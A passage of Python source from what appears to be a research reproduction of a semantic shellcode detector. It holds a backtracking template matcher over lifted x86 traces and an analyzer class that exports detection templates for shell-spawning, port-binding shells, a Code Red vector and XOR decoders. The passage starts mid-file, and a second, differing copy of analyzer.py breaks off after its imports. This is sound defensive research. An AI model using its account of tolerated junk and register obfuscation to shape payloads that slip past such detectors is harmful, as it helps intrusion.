        # iff its variable appears in the suffix — and a symbolic
        # constant is always live (its last use cannot exceed the
        # horizon).
        if not bindings:
            return 0
        suffix = self.p.suffix_vars[node_idx]
        fb = self.fb
        out = 0
        for var, val in bindings.items():
            tag = val[0]
            if tag == "symconst":
                out |= fb(val[1])
            elif tag == "reg" and var in suffix:
                out |= fb(val[1])
        return out

    def _rec(self, node_idx, pos, bindings, matched, repeat_count):
        p = self.p
        if node_idx >= p.n_nodes:
            return self._result(bindings, matched)
        budget = self.budget
        if budget[0] <= 0:
            return None
        if repeat_count >= p.min_reps[node_idx]:
            result = self._rec(node_idx + 1, pos, bindings, matched, 0)
            if result is not None:
                return result
        if repeat_count >= p.max_reps[node_idx]:
            return None
        n = self.n
        if matched:
            limit = pos + p.max_gap + 1
            if limit > n:
                limit = n
            live = self._live_mask(bindings, node_idx)
            tracker = _MaskTracker(live, self.fb) if live else None
        else:
            limit = pos + 1 if pos < n else n
            tracker = None
        node = p.nodes[node_idx]
        admit = p.admits[node_idx]
        stmts, envs, kinds, defm, ctx = (self.stmts, self.envs, self.kinds,
                                         self.defm, self.ctx)
        scan = pos
        while scan < limit:
            budget[0] -= 1
            if budget[0] <= 0:
                return None
            k = kinds[scan]
            if ((k & admit)
                    and (tracker is None
                         or not (tracker.saved_mask & tracker.live))):
                new_bindings = node.match(stmts[scan], envs[scan], bindings,
                                          ctx)
                if new_bindings is not None:
                    old_first = ctx.first_pos
                    if not matched:
                        ctx.first_pos = scan
                    matched.append(scan)
                    result = self._rec(node_idx, scan + 1, new_bindings,
                                       matched, repeat_count + 1)
                    if result is not None:
                        return result
                    matched.pop()
                    ctx.first_pos = old_first
            if tracker is not None and matched:
                # Inline of _MaskTracker.step for non-push/pop statements.
                if k & K_PUSHPOP:
                    if not tracker.step(stmts[scan], defm[scan]):
                        return None
                elif defm[scan] & tracker.live & ~tracker.saved_mask:
                    return None
            scan += 1
        return None


class CompiledUnordered(_CompiledBase):
    """Plan executor for unordered templates (LoopBack nodes match last)."""

    __slots__ = ("deficit", "_unsat")

    def __init__(self, plan, trace, kinds, def_masks, fam_bit, ctx, budget):
        super().__init__(plan, trace, kinds, def_masks, fam_bit, ctx, budget)
        self.deficit = 0
        self._unsat: list[int] = []

    def run(self, start: int):
        budget = self.budget
        if budget[0] <= 0:
            return None
        if not (self.kinds[start] & self.p.fast_admit):
            budget[0] -= 1
            return None
        self.ctx.first_pos = -1
        counts = [0] * self.p.n_nodes
        self.deficit = len(self.p.required_free)
        return self._rec(counts, start, {}, [])

    def _live_mask(self, bindings, counts) -> int:
        if not bindings:
            return 0
        p = self.p
        unsat = self._unsat
        unsat.clear()
        if self.deficit:
            for i in p.required_free:
                if counts[i] < p.min_reps[i]:
                    unsat.append(i)
        if unsat:
            horizon = unsat[-1]
            node_vars = p.node_vars
            fb = self.fb
            last_use = p.last_use
            out = 0
            for var, val in bindings.items():
                tag = val[0]
                if tag != "reg" and tag != "symconst":
                    continue
                needed = False
                for i in unsat:
                    if var in node_vars[i]:
                        needed = True
                        break
                if needed or (tag == "symconst" and last_use[var] <= horizon):
                    out |= fb(val[1])
            return out
        if not p.loopbacks:
            return 0
        union, horizon = p.lb_suffix[0]
        return self._suffix_live(bindings, union, horizon)

    def _suffix_live(self, bindings, union, horizon) -> int:
        fb = self.fb
        last_use = self.p.last_use
        out = 0
        for var, val in bindings.items():
            tag = val[0]
            if tag != "reg" and tag != "symconst":
                continue
            if var in union or (tag == "symconst"
                                and last_use[var] <= horizon):
                out |= fb(val[1])
        return out

    def _rec(self, counts, pos, bindings, matched):
        budget = self.budget
        if budget[0] <= 0:
            return None
        p = self.p
        if matched and not self.deficit:
            result = self._finish(0, pos, bindings, matched)
            if result is not None:
                return result
        n = self.n
        if matched:
            limit = pos + p.max_gap + 1
            if limit > n:
                limit = n
            live = self._live_mask(bindings, counts)
            tracker = _MaskTracker(live, self.fb) if live else None
        else:
            limit = pos + 1 if pos < n else n
            tracker = None
        order_free = p.order_free
        max_reps, min_reps = p.max_reps, p.min_reps
        nodes, admits, union_admit = p.nodes, p.admits, p.union_admit
        stmts, envs, kinds, defm, ctx = (self.stmts, self.envs, self.kinds,
                                         self.defm, self.ctx)
        scan = pos
        while scan < limit:
            budget[0] -= 1
            if budget[0] <= 0:
                return None
            k = kinds[scan]
            if ((k & union_admit)
                    and (tracker is None
                         or not (tracker.saved_mask & tracker.live))):
                stmt = stmts[scan]
                env = envs[scan]
                for idx in order_free:
                    if counts[idx] >= max_reps[idx] or not (k & admits[idx]):
                        continue
                    new_bindings = nodes[idx].match(stmt, env, bindings, ctx)
                    if new_bindings is None:
                        continue
                    old_first = ctx.first_pos
                    if not matched:
                        ctx.first_pos = scan
                    matched.append(scan)
                    counts[idx] += 1
                    if counts[idx] == min_reps[idx]:
                        self.deficit -= 1
                    result = self._rec(counts, scan + 1, new_bindings,
                                       matched)
                    if result is not None:
                        return result
                    if counts[idx] == min_reps[idx]:
                        self.deficit += 1
                    counts[idx] -= 1
                    matched.pop()
                    ctx.first_pos = old_first
            if tracker is not None and matched:
                # Inline of _MaskTracker.step for non-push/pop statements.
                if k & K_PUSHPOP:
                    if not tracker.step(stmts[scan], defm[scan]):
                        return None
                elif defm[scan] & tracker.live & ~tracker.saved_mask:
                    return None
            scan += 1
        return None

    def _finish(self, lb_i, pos, bindings, matched):
        p = self.p
        loopbacks = p.loopbacks
        if lb_i >= len(loopbacks):
            return self._result(bindings, matched)
        node = p.nodes[loopbacks[lb_i]]
        admit = p.admits[loopbacks[lb_i]]
        n = self.n
        limit = pos + p.max_gap + 1
        if limit > n:
            limit = n
        union, horizon = p.lb_suffix[lb_i]
        live = self._suffix_live(bindings, union, horizon)
        tracker = _MaskTracker(live, self.fb) if live else None
        budget = self.budget
        stmts, envs, kinds, defm, ctx = (self.stmts, self.envs, self.kinds,
                                         self.defm, self.ctx)
        last = len(loopbacks) - 1
        for scan in range(pos, limit):
            budget[0] -= 1
            if budget[0] <= 0:
                return None
            k = kinds[scan]
            if k & admit:
                new_bindings = node.match(stmts[scan], envs[scan], bindings,
                                          ctx)
                if new_bindings is not None:
                    matched2 = matched + [scan]
                    if lb_i == last:
                        return self._result(new_bindings, matched2)
                    result = self._finish(lb_i + 1, scan + 1, new_bindings,
                                          matched2)
                    if result is not None:
                        return result
            if tracker is not None:
                # Inline of _MaskTracker.step for non-push/pop statements.
                if k & K_PUSHPOP:
                    if not tracker.step(stmts[scan], defm[scan]):
                        return None
                elif defm[scan] & tracker.live & ~tracker.saved_mask:
                    return None
        return None

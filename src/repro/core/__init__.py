"""Semantic analysis core: templates, matcher, analyzer.

The paper's primary contribution — template-based behavioural matching with
junk tolerance, register renaming, constant obfuscation resolution, and
out-of-order code handling.
"""

from .template import (
    Bindings, ConstBytesWrite, IndirectCall, LoadFrom, LoopBack,
    MatchContext, MemRmw, Node, PointerStep, PushValue, RegCompute,
    RegFromEsp, StoreTo, Syscall, Template, TemplateMatch,
)
from .matcher import MatchEngine, PreparedTrace, prepare_trace
from .library import (
    admmutate_alt_decoder, all_templates, codered_ii_vector,
    decoder_templates, generic_decrypt_loop, linux_shell_spawn,
    paper_templates, port_bind_shell, xor_decrypt_loop, xor_only_templates,
)
from .analyzer import AnalysisResult, SemanticAnalyzer
from .emuverify import EmulationVerifier, Verification

__all__ = [
    "Bindings", "ConstBytesWrite", "IndirectCall", "LoadFrom", "LoopBack",
    "MatchContext", "MemRmw", "Node", "PointerStep", "PushValue",
    "RegCompute", "RegFromEsp", "StoreTo", "Syscall", "Template",
    "TemplateMatch",
    "MatchEngine", "PreparedTrace", "prepare_trace",
    "admmutate_alt_decoder", "all_templates", "codered_ii_vector",
    "decoder_templates", "generic_decrypt_loop", "linux_shell_spawn",
    "paper_templates", "port_bind_shell", "xor_decrypt_loop",
    "xor_only_templates",
    "AnalysisResult", "SemanticAnalyzer",
    "EmulationVerifier", "Verification",
]

"""Template matching over linearized IR traces.

The matcher implements the satisfaction relation P |= T of [5] as a
backtracking search:

1. the frame's instructions are re-serialized in execution order
   (jmp-threading, :func:`repro.ir.cfg.linearize`) and lifted to IR;
2. constant propagation annotates every statement with the register
   constants holding *before* it;
3. for every start position, template nodes are matched against
   statements left to right (or in any order for ``ordered=False``
   templates), allowing up to ``max_gap`` junk statements between
   consecutive matched nodes;
4. def-use preservation: a gap statement that redefines a register bound
   to a live template variable kills the candidate — junk may be
   interleaved, but not junk that breaks the behaviour's dataflow.

The search is exponential in the worst case but template sizes are <= 8
nodes and gap windows are small; the §5.4 benign-traffic benchmark bounds
the practical cost.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field

from ..ir.cfg import build_cfg, linearize
from ..ir.dataflow import ConstEnv, propagate
from ..ir.lift import lift
from ..ir.ops import Stmt
from ..x86.instruction import Instruction
from ..ir.ops import Pop as _PopStmt, Push as _PushStmt, Reg as _RegExpr
from .matchplan import (
    CompiledOrdered,
    CompiledUnordered,
    TemplatePlan,
    compile_plan,
    plan_data,
)
from .template import Bindings, LoopBack, MatchContext, Template, TemplateMatch

__all__ = ["MatchEngine", "prepare_trace", "PreparedTrace"]


@dataclass
class PreparedTrace:
    """Lifted + linearized + constant-annotated code, ready for matching."""

    instructions: list[Instruction]
    stmts: list[Stmt]
    envs: list[ConstEnv]
    pos_by_address: dict[int, int]
    defs: list[frozenset[str]] = field(default_factory=list)
    features: frozenset[str] = frozenset()

    def __post_init__(self) -> None:
        if not self.defs:
            self.defs = [frozenset(s.defs()) for s in self.stmts]
        if not self.features:
            self.features = _trace_features(self.stmts)
        self._feature_cum: dict[str, object] = {}
        self._anchor_cum: dict[frozenset[int], object] = {}
        self._spans = None  # lazy (k1, k2) post-prefix opcode key arrays

    def __len__(self) -> int:
        return len(self.stmts)

    def feature_cum(self, feature: str):
        """Prefix counts of one feature kind (lazily built), used to reject
        start windows that cannot contain a required node kind."""
        cum = self._feature_cum.get(feature)
        if cum is None:
            from ..ir.ops import Assign, Branch, Interrupt, Load, Push, Store

            def has(stmt: Stmt) -> bool:
                if feature == "store":
                    return isinstance(stmt, Store)
                if feature == "load":
                    return isinstance(stmt, Assign) and isinstance(stmt.src, Load)
                if feature == "interrupt":
                    return isinstance(stmt, Interrupt)
                if feature == "push":
                    return isinstance(stmt, Push)
                if feature == "call":
                    return isinstance(stmt, Branch) and stmt.kind == "call"
                if feature == "branch":
                    return isinstance(stmt, Branch)
                return True

            import numpy as np

            counts = [0]
            for stmt in self.stmts:
                counts.append(counts[-1] + (1 if has(stmt) else 0))
            cum = np.asarray(counts, dtype=np.int64)
            self._feature_cum[feature] = cum
        return cum

    def _opcode_keys(self):
        """Per-position post-prefix leading bytes of each statement's
        instruction, as two integer arrays (lazily built, shared by every
        anchor cum of this trace): ``k1[i]`` is the first byte after any
        legacy prefixes (-1 when the position has no raw instruction),
        ``k2[i]`` is ``(first << 8) | second`` (-1 when there is no
        second byte)."""
        import numpy as np

        keys = self._spans
        if keys is None:
            from ..x86.disasm import _OPSIZE_PREFIX, _PREFIXES

            strip = _PREFIXES | {_OPSIZE_PREFIX}
            n = len(self.stmts)
            k1 = np.full(n, -1, dtype=np.int32)
            k2 = np.full(n, -1, dtype=np.int32)
            for i, stmt in enumerate(self.stmts):
                ins = stmt.ins
                if ins is None or not ins.raw:
                    continue
                raw = ins.raw
                j = 0
                while j < len(raw) - 1 and raw[j] in strip:
                    j += 1
                k1[i] = raw[j]
                if j + 1 < len(raw):
                    k2[i] = (raw[j] << 8) | raw[j + 1]
            self._spans = keys = (k1, k2)
        return keys

    def anchor_cum(self, key: frozenset[int], ones, twos, has_long):
        """Prefix counts of trace positions whose instruction could
        satisfy one prefilter clause.

        ``ones``/``twos`` are the clause's anchor patterns as sorted
        integer keys (``CompiledPrefilter.clause_hits``).  Anchor
        patterns are the post-prefix leading bytes of every instruction
        encoding able to lift to the clause's node, so a position whose
        instruction starts with none of them provably cannot satisfy it —
        which makes the cum a sound start-window filter, exactly like
        :meth:`feature_cum`.  A clause carrying patterns too long for the
        key form (``has_long``) counts every position: no pruning, still
        sound.  Cached by clause identity (``key``) since templates share
        clauses.
        """
        import numpy as np

        cum = self._anchor_cum.get(key)
        if cum is None:
            n = len(self.stmts)
            if has_long:
                hit = np.ones(n, dtype=bool)
            else:
                k1, k2 = self._opcode_keys()
                hit = np.isin(k1, ones)
                if len(twos):
                    hit |= np.isin(k2, twos)
            cum = np.zeros(n + 1, dtype=np.int64)
            np.cumsum(hit, out=cum[1:])
            self._anchor_cum[key] = cum
        return cum


def _trace_features(stmts: list[Stmt]) -> frozenset[str]:
    """Cheap one-pass feature scan backing the §4.3 pruning: a template
    whose node kinds cannot possibly be satisfied here is skipped."""
    from ..ir.ops import Assign, Branch, Interrupt, Load, Push, Store

    features: set[str] = set()
    for stmt in stmts:
        if isinstance(stmt, Store):
            features.add("store")
        elif isinstance(stmt, Assign) and isinstance(stmt.src, Load):
            features.add("load")
        elif isinstance(stmt, Interrupt):
            features.add("interrupt")
        elif isinstance(stmt, Push):
            features.add("push")
        elif isinstance(stmt, Branch):
            if stmt.kind == "call":
                features.add("call")
                features.add("branch")
            else:
                features.add("branch")
        if len(features) == 6:
            break
    return frozenset(features)


def prepare_trace(instructions: list[Instruction]) -> PreparedTrace:
    """Linearize, lift and annotate a decoded frame."""
    cfg = build_cfg(instructions)
    ordered = linearize(cfg)
    stmts = lift(ordered)
    envs = propagate(stmts)
    pos_by_address: dict[int, int] = {}
    for i, stmt in enumerate(stmts):
        addr = stmt.address
        if addr >= 0 and addr not in pos_by_address:
            pos_by_address[addr] = i
    return PreparedTrace(
        instructions=ordered, stmts=stmts, envs=envs,
        pos_by_address=pos_by_address,
    )


class MatchEngine:
    """Matches one or more templates against prepared traces."""

    def __init__(self, max_candidates: int = 200_000,
                 compiled: bool = True) -> None:
        #: backtracking budget per (template, frame) pair; prevents
        #: adversarial frames from stalling the sensor.
        self.max_candidates = max_candidates
        #: execute templates through compiled match plans
        #: (:mod:`repro.core.matchplan`); the interpreted walk remains as
        #: the differential reference implementation.
        self.compiled = compiled
        #: candidate start positions rejected via fast-path anchor
        #: information (templates ruled out count their whole trace).
        self.starts_pruned = 0
        #: (template, frame) searches cut short by ``max_candidates``.
        self.budget_trips = 0
        #: cumulative seconds spent compiling match plans.
        self.plan_compile_seconds = 0.0
        # Plan cache keyed by template identity: each cached plan holds a
        # strong reference to its template, so an id() can never be
        # recycled while its entry lives.
        self._plans: dict[int, TemplatePlan] = {}

    def plan_for(self, template: Template) -> TemplatePlan:
        """The compiled :class:`TemplatePlan` for ``template`` (cached)."""
        plan = self._plans.get(id(template))
        if plan is None:
            t0 = time.perf_counter()
            plan = compile_plan(template)
            self.plan_compile_seconds += time.perf_counter() - t0
            self._plans[id(template)] = plan
        return plan

    def compile_plans(self, templates) -> None:
        """Eagerly compile plans for a template library (load time)."""
        for template in templates:
            self.plan_for(template)

    def clear_plans(self) -> None:
        """Drop every compiled plan (template-library hot reload): the
        cache keys are template identities, so entries for a retired
        library would pin the old template objects forever."""
        self._plans.clear()

    # -- public API --------------------------------------------------------

    def match(self, template: Template, trace: PreparedTrace,
              clause_hits=None, base: int = 0) -> TemplateMatch | None:
        """First match of ``template`` in ``trace``, or ``None``.

        ``clause_hits`` is optional fast-path anchor information for this
        template (``CompiledPrefilter.clause_hits``): per necessary-
        condition clause, the post-prefix opcode keys of every producing
        instruction encoding.  Start windows containing no instruction
        able to produce some clause are rejected the same way the feature
        cums reject them — a pure pruning that cannot change the outcome.
        """
        n = len(trace)
        if n == 0 or not template.nodes:
            return None
        if not template.required_features <= trace.features:
            return None  # §4.3 pruning: a required instruction kind is absent
        budget = [self.max_candidates]
        last_use = self._last_uses(template)

        # Window filter: a match starting at `start` spans at most
        # `span` statements, so every required node kind must occur inside
        # [start, start+span) — rejecting sled/junk starts in O(#features).
        span = self._max_span(template)
        cums = [(trace.feature_cum(f)) for f in template.required_features]
        anchor_cums = ([trace.anchor_cum(ids, ones, twos, has_long)
                        for ids, ones, twos, has_long in clause_hits]
                       if clause_hits else [])

        # All start windows are filtered in one vectorized pass instead of
        # a per-start Python loop: only the surviving candidates reach the
        # backtracking search.  The two filter stages are kept separate so
        # ``starts_pruned`` counts exactly the windows the anchors reject
        # on top of the feature rejection.
        import numpy as np

        starts_arr = np.arange(n, dtype=np.int64)
        ends_arr = np.minimum(n, starts_arr + span)
        ok = np.ones(n, dtype=bool)
        for cum in cums:
            ok &= cum[ends_arr] > cum[starts_arr]
        if anchor_cums:
            ok_anchored = ok.copy()
            for cum in anchor_cums:
                ok_anchored &= cum[ends_arr] > cum[starts_arr]
            self.starts_pruned += int(ok.sum() - ok_anchored.sum())
            ok = ok_anchored

        starts = np.flatnonzero(ok).tolist()
        if self.compiled:
            result = self._run_compiled(template, trace, starts, budget)
        else:
            result = None
            for start in starts:
                ctx = MatchContext(
                    trace=trace.stmts, envs=trace.envs,
                    pos_by_address=trace.pos_by_address, first_pos=-1,
                )
                result = self._match_from(template, trace, start, ctx,
                                          budget, last_use)
                if result is not None:
                    break
                if budget[0] <= 0:
                    break
        if budget[0] <= 0:
            self.budget_trips += 1
        return result

    def _run_compiled(self, template: Template, trace: PreparedTrace,
                      starts, budget) -> TemplateMatch | None:
        plan = self.plan_for(template)
        kinds, def_masks, fam_bit = plan_data(trace)
        ctx = MatchContext(
            trace=trace.stmts, envs=trace.envs,
            pos_by_address=trace.pos_by_address, first_pos=-1,
        )
        cls = CompiledOrdered if plan.ordered else CompiledUnordered
        executor = cls(plan, trace, kinds, def_masks, fam_bit, ctx, budget)
        for start in starts:
            result = executor.run(start)
            if result is not None:
                return result
            if budget[0] <= 0:
                break
        return None

    @staticmethod
    def _max_span(template: Template) -> int:
        """Upper bound on the trace distance a match can cover from its
        first matched node."""
        total_nodes = sum(template.repeats.get(i, (1, 1))[1]
                          for i in range(len(template.nodes)))
        return (template.max_gap + 1) * total_nodes + 1

    def match_all(self, templates: list[Template], trace: PreparedTrace,
                  prefilter=None, scan=None,
                  base: int = 0) -> list[TemplateMatch]:
        """Match every template; returns all hits (one match per template).

        With a fast-path ``prefilter`` (:class:`repro.fastpath.
        CompiledPrefilter`) and its ``scan`` of the frame, templates whose
        necessary-condition anchors are absent are skipped outright and
        the surviving templates' anchor offsets prune start positions.
        """
        out = []
        for template in templates:
            clause_hits = None
            if prefilter is not None and scan is not None:
                if not scan.survives(template.name):
                    self.starts_pruned += len(trace)
                    continue
                clause_hits = prefilter.clause_hits(template.name, scan)
            m = self.match(template, trace, clause_hits=clause_hits,
                           base=base)
            if m is not None:
                out.append(m)
        return out

    # -- internals ----------------------------------------------------------

    @staticmethod
    def _last_uses(template: Template) -> dict[str, int]:
        """Variable -> index of the last node that uses it (liveness)."""
        last: dict[str, int] = {}
        for i, node in enumerate(template.nodes):
            for var in node.variables():
                last[var] = i
        return last

    def _match_from(
        self,
        template: Template,
        trace: PreparedTrace,
        start: int,
        ctx: MatchContext,
        budget: list[int],
        last_use: dict[str, int],
    ) -> TemplateMatch | None:
        if template.ordered:
            state = _OrderedState(template, trace, ctx, budget, last_use, self)
            return state.run(start)
        state = _UnorderedState(template, trace, ctx, budget, last_use, self)
        return state.run(start)


class _SearchBase:
    def __init__(self, template, trace, ctx, budget, last_use, engine):
        self.t = template
        self.trace = trace
        self.ctx = ctx
        self.budget = budget
        self.last_use = last_use
        self.engine = engine

    def _live_families(self, bindings: Bindings, remaining: set[int]) -> set[str]:
        """Register families bound to variables still needed by unmatched
        nodes (those are the def-use edges junk must not break)."""
        if not remaining:
            return set()
        horizon = max(remaining)
        out: set[str] = set()
        for var, value in bindings.items():
            if value[0] in ("reg", "symconst") and self.last_use.get(var, -1) >= 0:
                # live if any remaining node may still use it
                if any(var in self.t.nodes[i].variables() for i in remaining):
                    out.add(str(value[1]))
                elif self.last_use[var] <= horizon and value[0] == "symconst":
                    out.add(str(value[1]))
        return out

    def _gap_ok(self, pos: int, live: set[str]) -> bool:
        """May statement at ``pos`` sit unmatched inside the window?"""
        if not live:
            return True
        return not (self.trace.defs[pos] & live)


class _GapTracker:
    """Def-use preservation across a gap, with push/pop save-restore.

    The plain clobber rule kills a candidate when junk redefines a bound
    register; but ``push R; <clobber R>; pop R`` preserves R's value
    through memory — a behaviour-preserving obfuscation the paper's
    def-use semantics permit.  The tracker forgives defs of a live
    register while it is parked on the stack at a balanced depth, and
    requires it restored before the next template node matches.
    """

    __slots__ = ("live", "depth", "saved")

    def __init__(self, live: set[str]) -> None:
        self.live = live
        self.depth = 0
        self.saved: dict[str, int] = {}

    def step(self, stmt: Stmt, defs: frozenset[str]) -> bool:
        """Advance over one unmatched gap statement; False = broken.
        ``defs`` is the statement's precomputed def set."""
        if isinstance(stmt, _PushStmt):
            src = stmt.src
            if (isinstance(src, _RegExpr) and src.family in self.live
                    and src.family not in self.saved):
                self.saved[src.family] = self.depth
            self.depth += 1
            return True
        if isinstance(stmt, _PopStmt):
            self.depth -= 1
            family = stmt.dst
            if self.saved.get(family) == self.depth:
                del self.saved[family]  # balanced restore
                return True
            if family in self.live and family not in self.saved:
                return False  # pop overwrites a live register with junk
            return True
        if not self.live:
            return True
        for family in defs & self.live:
            if family not in self.saved:
                return False
        return True

    def clean_at_match(self) -> bool:
        """A node may only match while no live register sits unsaved on
        the stack (the real code restores before using)."""
        if not self.saved:
            return True
        return not any(family in self.live for family in self.saved)


class _OrderedState(_SearchBase):
    def run(self, start: int) -> TemplateMatch | None:
        return self._rec(0, start, {}, [], 0)

    def _rec(
        self,
        node_idx: int,
        pos: int,
        bindings: Bindings,
        matched: list[int],
        repeat_count: int,
    ) -> TemplateMatch | None:
        t = self.t
        if node_idx >= len(t.nodes):
            return TemplateMatch(
                template=t, bindings=bindings, positions=list(matched),
                statements=[self.trace.stmts[i] for i in matched],
            )
        if self.budget[0] <= 0:
            return None
        node = t.nodes[node_idx]
        min_rep, max_rep = t.repeats.get(node_idx, (1, 1))
        remaining = set(range(node_idx, len(t.nodes)))
        live = self._live_families(bindings, remaining)
        # Option: node already satisfied its minimum — allowed to move on.
        if repeat_count >= min_rep:
            result = self._rec(node_idx + 1, pos, bindings, matched, 0)
            if result is not None:
                return result
        if repeat_count >= max_rep:
            return None
        # Before anything is matched, only the start position itself is a
        # candidate for the first node — every later position is visited as
        # its own start, so scanning ahead here would be quadratic.
        gap = t.max_gap if matched else 0
        limit = min(len(self.trace.stmts), pos + gap + 1)
        tracker = _GapTracker(live if matched else set())
        scan = pos
        while scan < limit:
            self.budget[0] -= 1
            if self.budget[0] <= 0:
                return None
            stmt = self.trace.stmts[scan]
            env = self.trace.envs[scan]
            new_bindings = (node.match(stmt, env, bindings, self.ctx)
                            if tracker.clean_at_match() else None)
            if new_bindings is not None:
                old_first = self.ctx.first_pos
                if not matched:
                    self.ctx.first_pos = scan
                matched.append(scan)
                result = self._rec(node_idx, scan + 1, new_bindings, matched,
                                   repeat_count + 1)
                if result is not None:
                    return result
                matched.pop()
                self.ctx.first_pos = old_first
            # This statement stays in the gap; check def-use preservation
            # (push/pop save-restore of a bound register is forgiven).
            if matched and not tracker.step(stmt, self.trace.defs[scan]):
                return None
            scan += 1
        return None


class _UnorderedState(_SearchBase):
    """Any-order matching: nodes may match in any sequence; LoopBack last.

    Repeatable nodes stay *available* until their maximum count so that a
    long compute chain is consumed by its node rather than falling into the
    gap (where it would look like a clobber of the bound register).
    Liveness for the gap check covers only variables that *unsatisfied*
    nodes still need.
    """

    def run(self, start: int) -> TemplateMatch | None:
        self.order_free = [i for i, n in enumerate(self.t.nodes)
                           if not isinstance(n, LoopBack)]
        self.loopbacks = [i for i, n in enumerate(self.t.nodes)
                          if isinstance(n, LoopBack)]
        # Per-node repeat bounds, cached as flat lists (hot path).
        self.min_reps = [self.t.repeats.get(i, (1, 1))[0]
                         for i in range(len(self.t.nodes))]
        self.max_reps = [self.t.repeats.get(i, (1, 1))[1]
                         for i in range(len(self.t.nodes))]
        counts = {i: 0 for i in self.order_free}
        return self._rec(counts, start, {}, [])

    def _min_rep(self, idx: int) -> int:
        return self.min_reps[idx]

    def _max_rep(self, idx: int) -> int:
        return self.max_reps[idx]

    def _satisfied(self, counts: dict[int, int]) -> bool:
        min_reps = self.min_reps
        return all(c >= min_reps[i] for i, c in counts.items())

    def _rec(
        self,
        counts: dict[int, int],
        pos: int,
        bindings: Bindings,
        matched: list[int],
    ) -> TemplateMatch | None:
        t = self.t
        if self.budget[0] <= 0:
            return None
        if matched and self._satisfied(counts):
            result = self._finish(self.loopbacks, pos, bindings, matched)
            if result is not None:
                return result
        unsatisfied = {i for i, c in counts.items() if c < self._min_rep(i)}
        live = self._live_families(bindings, unsatisfied or set(self.loopbacks))
        gap = t.max_gap if matched else 0
        limit = min(len(self.trace.stmts), pos + gap + 1)
        tracker = _GapTracker(live if matched else set())
        scan = pos
        while scan < limit:
            self.budget[0] -= 1
            if self.budget[0] <= 0:
                return None
            stmt = self.trace.stmts[scan]
            env = self.trace.envs[scan]
            if tracker.clean_at_match():
                for idx in self.order_free:
                    if counts[idx] >= self.max_reps[idx]:
                        continue
                    node = t.nodes[idx]
                    new_bindings = node.match(stmt, env, bindings, self.ctx)
                    if new_bindings is None:
                        continue
                    old_first = self.ctx.first_pos
                    if not matched:
                        self.ctx.first_pos = scan
                    matched.append(scan)
                    counts[idx] += 1
                    result = self._rec(counts, scan + 1, new_bindings, matched)
                    if result is not None:
                        return result
                    counts[idx] -= 1
                    matched.pop()
                    self.ctx.first_pos = old_first
            if matched and not tracker.step(stmt, self.trace.defs[scan]):
                return None
            scan += 1
        return None

    def _finish(self, loopbacks, pos, bindings, matched) -> TemplateMatch | None:
        if not loopbacks:
            return TemplateMatch(
                template=self.t, bindings=bindings, positions=list(matched),
                statements=[self.trace.stmts[i] for i in matched],
            )
        node = self.t.nodes[loopbacks[0]]
        limit = min(len(self.trace.stmts), pos + self.t.max_gap + 1)
        live = self._live_families(bindings, set(loopbacks))
        tracker = _GapTracker(live)
        for scan in range(pos, limit):
            self.budget[0] -= 1
            if self.budget[0] <= 0:
                return None
            new_bindings = node.match(
                self.trace.stmts[scan], self.trace.envs[scan], bindings, self.ctx
            )
            if new_bindings is not None:
                matched2 = matched + [scan]
                if len(loopbacks) == 1:
                    return TemplateMatch(
                        template=self.t, bindings=new_bindings,
                        positions=matched2,
                        statements=[self.trace.stmts[i] for i in matched2],
                    )
                result = self._finish(loopbacks[1:], scan + 1, new_bindings, matched2)
                if result is not None:
                    return result
            if not tracker.step(self.trace.stmts[scan],
                                self.trace.defs[scan]):
                return None
        return None

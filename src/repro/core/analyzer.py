"""The semantic analyzer: disassemble → lift → propagate → match.

This is stage (c)+(d)+(e) of the paper's Figure 3 pipeline rolled into one
object: it accepts a binary frame (bytes extracted from network traffic, or
a whole binary for the host-based baseline), produces the prepared IR
trace, and reports which templates the code satisfies.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field

from ..x86.disasm import disassemble_frame
from ..x86.instruction import Instruction
from .library import paper_templates
from .matcher import MatchEngine, PreparedTrace, prepare_trace
from .template import Template, TemplateMatch

__all__ = ["AnalysisResult", "SemanticAnalyzer"]


@dataclass
class AnalysisResult:
    """Outcome of analyzing one binary frame."""

    matches: list[TemplateMatch] = field(default_factory=list)
    instruction_count: int = 0
    bytes_consumed: int = 0
    frame_size: int = 0
    elapsed: float = 0.0

    @property
    def detected(self) -> bool:
        return bool(self.matches)

    def matched_names(self) -> list[str]:
        return [m.template.name for m in self.matches]

    def summary(self) -> str:
        if not self.matches:
            return (f"clean: {self.instruction_count} instructions "
                    f"({self.bytes_consumed}/{self.frame_size} bytes decoded)")
        return "; ".join(m.summary() for m in self.matches)


class SemanticAnalyzer:
    """Matches a template set against binary frames.

    ``min_instructions`` discards frames that decode to fewer instructions
    than any meaningful behaviour needs — random payload bytes frequently
    decode to 1-3 junk instructions, and skipping them is a large part of
    the efficiency story.
    """

    def __init__(
        self,
        templates: list[Template] | None = None,
        engine: MatchEngine | None = None,
        min_instructions: int = 3,
    ) -> None:
        self.templates = templates if templates is not None else paper_templates()
        self.engine = engine or MatchEngine()
        self.min_instructions = min_instructions
        self.frames_analyzed = 0
        self.total_elapsed = 0.0

    def analyze_frame(self, data: bytes, base: int = 0) -> AnalysisResult:
        """Disassemble a binary frame and match all templates against it."""
        start = time.perf_counter()
        instructions, consumed = disassemble_frame(data, base)
        result = self._analyze(instructions)
        result.bytes_consumed = consumed
        result.frame_size = len(data)
        result.elapsed = time.perf_counter() - start
        self.frames_analyzed += 1
        self.total_elapsed += result.elapsed
        return result

    def analyze_instructions(self, instructions: list[Instruction]) -> AnalysisResult:
        """Match against an already-decoded instruction list."""
        start = time.perf_counter()
        result = self._analyze(instructions)
        result.bytes_consumed = sum(i.size for i in instructions)
        result.frame_size = result.bytes_consumed
        result.elapsed = time.perf_counter() - start
        self.frames_analyzed += 1
        self.total_elapsed += result.elapsed
        return result

    def prepare(self, instructions: list[Instruction]) -> PreparedTrace:
        """Expose trace preparation (for tests and ablations)."""
        return prepare_trace(instructions)

    def _analyze(self, instructions: list[Instruction]) -> AnalysisResult:
        result = AnalysisResult(instruction_count=len(instructions))
        if len(instructions) < self.min_instructions:
            return result
        trace = prepare_trace(instructions)
        result.matches = self.engine.match_all(self.templates, trace)
        return result

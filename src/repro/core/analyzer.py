"""The semantic analyzer: disassemble → lift → propagate → match.

This is stage (c)+(d)+(e) of the paper's Figure 3 pipeline rolled into one
object: it accepts a binary frame (bytes extracted from network traffic, or
a whole binary for the host-based baseline), produces the prepared IR
trace, and reports which templates the code satisfies.
"""

from __future__ import annotations

import hashlib
import time
from collections import OrderedDict
from dataclasses import dataclass, field, replace

from ..errors import DeadlineExceeded
